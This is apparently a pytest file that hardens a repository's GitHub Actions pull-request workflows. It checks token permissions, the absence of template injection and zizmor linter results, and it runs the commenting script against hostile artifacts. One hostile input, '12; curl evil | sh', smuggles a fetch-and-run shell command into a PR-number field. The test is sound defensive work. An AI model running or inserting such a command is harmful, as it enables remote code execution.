"""CI: pull-request code never runs with a token that can write.

The diff is computed by `pr-diff.yml` (pull_request, read-only token) and
posted by `pr-comment.yml` (workflow_run, may write comments), which runs no
repository code and treats the artifact as untrusted data. The workflows are
read as data, checked by zizmor (a security linter for GitHub Actions), and
the commenting script itself is run with Node.js against hostile artifacts,
with the GitHub API stood in for by a recorder.
"""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from generator.review.summary import MARKER
from tests.test_workflows import FILES, WORKFLOWS, load, steps

WRITE = {"write", "write-all"}
HEAD_SHA = "a" * 40


def permissions(document: dict[str, Any], job: dict[str, Any]) -> dict[str, str]:
    scope = job.get("permissions", document.get("permissions", "write-all"))
    return {"all": scope} if isinstance(scope, str) else dict(scope)


def runs_repository_code(job: dict[str, Any]) -> bool:
    return any("run" in s or s.get("uses", "").startswith("actions/checkout@")
               for s in job.get("steps", []))


@pytest.mark.parametrize("path", FILES, ids=lambda p: p.name)
def test_no_job_that_runs_repository_code_can_write(path: Path) -> None:
    document = load(path.name)
    for name, job in document["jobs"].items():
        granted = permissions(document, job)
        if runs_repository_code(job):
            assert not WRITE & set(granted.values()), (path.name, name, granted)


def test_the_commenting_workflow_runs_no_repository_code() -> None:
    document = load("pr-comment.yml")
    assert list(document["on"]) == ["workflow_run"]
    assert document["permissions"] == {}
    for job in document["jobs"].values():
        assert not runs_repository_code(job)
        uses = [s["uses"].split("@")[0] for s in job["steps"]]
        assert uses == ["actions/download-artifact", "actions/github-script"]
        assert "workflow_run.conclusion == 'success'" in job["if"]
    text = (WORKFLOWS / "pr-comment.yml").read_text(encoding="utf-8")
    # Nothing from the triggering run is pasted into the script; it arrives as env data.
    script = next(s for s in steps(document) if "with" in s and "script" in s["with"])
    assert "${{" not in script["with"]["script"]
    assert "head.ref" not in text and "head_branch }}" not in text.split("jobs:")[1]


def test_pull_request_workflows_get_read_only_tokens() -> None:
    for path in FILES:
        document = load(path.name)
        if "pull_request" in document["on"] or "pull_request_target" in document["on"]:
            assert "pull_request_target" not in document["on"]
            for job in document["jobs"].values():
                assert not WRITE & set(permissions(document, job).values()), path.name


def test_zizmor_finds_nothing() -> None:
    zizmor = Path(sys.executable).parent / "zizmor"
    done = subprocess.run([str(zizmor), "--offline", "--config",
                           str(WORKFLOWS.parent / "zizmor.yml"), str(WORKFLOWS)],
                          capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stdout + done.stderr


NODE = shutil.which("node")
HARNESS = """
const calls = [];
const github = {
  paginate: async () => JSON.parse(process.env.EXISTING),
  rest: {
    issues: {
      listComments: 'listComments',
      createComment: async (a) => calls.push(['create', a]),
      updateComment: async (a) => calls.push(['update', a]),
    },
    pulls: { get: async (a) => { calls.push(['get', a]);
                                 return { data: { head: { sha: process.env.PR_HEAD } } }; } },
  },
};
const context = { repo: { owner: 'o', repo: 'r' } };
const core = { setFailed: (m) => calls.push(['failed', m]),
               notice: (m) => calls.push(['notice', m]) };
(async () => { SCRIPT })().then(() => console.log(JSON.stringify(calls)));
"""


def run_comment_script(tmp_path: Path, number: str, body: str, head: str = HEAD_SHA,
                       existing: list[dict[str, Any]] | None = None) -> list[list[Any]]:
    step = next(s for s in steps(load("pr-comment.yml")) if "github-script" in s["uses"])
    artifact = tmp_path / "artifact"
    artifact.mkdir(exist_ok=True)
    (artifact / "pr-number").write_text(number, encoding="utf-8")
    (artifact / "comment.md").write_text(body, encoding="utf-8")
    program = tmp_path / "run.js"
    program.write_text(HARNESS.replace("SCRIPT", step["with"]["script"]), encoding="utf-8")
    env = {"DIFF_DIR": str(artifact), "HEAD_SHA": HEAD_SHA, "PR_HEAD": head,
           "EXISTING": json.dumps(existing or []), "PATH": "/usr/bin:/bin"}
    done = subprocess.run([NODE or "node", str(program)], capture_output=True, text=True,
                          env=env, check=True, timeout=60)
    calls: list[list[Any]] = json.loads(done.stdout)
    return calls


BODY = f"{MARKER}\n### Persona handbook\n"
HOSTILE = [("12; curl evil | sh", BODY), ("0", BODY), ("1e3", BODY), ("12\n13", BODY),
           ("-4", BODY), ("12", "no marker @team"), ("12", BODY + "x" * 70000)]


@pytest.mark.skipif(NODE is None, reason="needs Node.js to run the workflow's script")
@pytest.mark.parametrize(("number", "body"), HOSTILE,
                         ids=["command", "zero", "exponent", "two-lines", "negative",
                              "no-marker", "too-long"])
def test_comment_script_refuses_a_hostile_artifact(tmp_path: Path, number: str,
                                                   body: str) -> None:
    calls = run_comment_script(tmp_path, number, body)
    assert [c[0] for c in calls if c[0] in ("create", "update")] == []
    assert calls[-1][0] == "failed"


@pytest.mark.skipif(NODE is None, reason="needs Node.js to run the workflow's script")
def test_comment_script_posts_once_then_updates_its_own_comment(tmp_path: Path) -> None:
    calls = run_comment_script(tmp_path, "12\n", BODY)
    assert calls[-1] == ["create", {"owner": "o", "repo": "r", "issue_number": 12, "body": BODY}]
    ours = {"id": 7, "body": BODY, "user": {"login": "github-actions[bot]"}}
    forged = {"id": 8, "body": BODY, "user": {"login": "mallory"}}
    assert run_comment_script(tmp_path, "12", BODY, existing=[forged, ours])[-1][0] == "get"
    changed = BODY + "- more\n"
    assert run_comment_script(tmp_path, "12", changed, existing=[forged, ours])[-1] == [
        "update", {"owner": "o", "repo": "r", "comment_id": 7, "body": changed}]
    moved_on = run_comment_script(tmp_path, "12", changed, head="b" * 40)
    assert [c[0] for c in moved_on] == ["get", "notice"]
